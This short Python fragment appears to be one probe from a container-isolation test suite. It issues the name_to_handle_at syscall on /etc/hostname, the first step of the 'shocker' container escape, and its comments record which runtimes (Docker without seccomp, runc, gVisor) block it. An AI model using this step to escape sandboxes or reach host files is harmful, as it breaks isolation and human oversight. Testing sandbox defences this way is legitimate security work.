# Tries: learn handles of files of the host's disk
# Idea: shocker's first step
# Docker: breached, or absent, with --security-opt seccomp=unconfined
# runc: held EPERM
# gVisor: held
room = ctypes.create_string_buffer(struct.pack("<Ii", 128, 0) + bytes(128))
number = ctypes.c_int()
call(303, 264, -100, ctypes.c_char_p(b"/etc/hostname"), ctypes.addressof(room), ctypes.addressof(number), 0)
breached(room.raw[:24].hex())
